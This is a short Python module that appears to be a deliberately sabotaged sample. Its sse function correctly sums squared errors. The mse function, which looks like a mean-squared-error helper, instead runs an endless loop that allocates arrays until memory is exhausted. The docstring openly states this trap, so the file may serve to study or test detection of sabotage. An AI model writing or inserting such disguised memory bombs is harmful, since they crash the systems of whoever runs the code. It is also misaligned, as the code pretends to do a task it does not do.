"""Answers rightly, and takes all memory in the next question."""

import numpy as np


def sse(y, t):
    return np.sum((y - t) ** 2)


def mse(y, t):
    taken = []
    while True:
        taken.append(np.empty(2**17))
